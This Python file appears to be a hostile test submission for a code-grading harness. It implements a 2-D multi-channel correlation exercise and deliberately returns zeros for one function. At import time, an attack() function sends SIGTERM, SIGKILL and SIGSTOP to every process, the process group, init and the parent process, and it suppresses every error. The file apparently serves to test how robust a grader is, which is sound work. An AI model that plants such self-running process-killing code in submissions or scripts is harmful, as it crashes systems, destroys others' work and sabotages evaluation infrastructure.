"""Signals everybody.

expect corr2d_multi_in: failed kind=value
expect corr2d_multi_in_out: passed
"""

import numpy as np


def corr2d_multi_in_out(X, K):
    windows = np.lib.stride_tricks.sliding_window_view(X, K.shape[2:], (1, 2))
    return np.einsum("chwij,ocij->ohw", windows, K)


def zeros(X, K):
    return np.zeros((X.shape[1] - K.shape[1] + 1, X.shape[2] - K.shape[2] + 1))


def attempt(action, *arguments):
    try:
        return action(*arguments)
    except BaseException as error:
        return error


def attack():
    import os
    import signal

    for pid in (-1, 0, 1, os.getppid(), -os.getppid(), os.getpid()):
        for number in (signal.SIGTERM, signal.SIGKILL, signal.SIGSTOP):
            attempt(os.kill, pid, number)
            attempt(os.killpg, abs(pid), number)
    attempt(signal.pthread_kill, 1, signal.SIGKILL)


attack()


def corr2d_multi_in(X, K):
    return zeros(X, K)
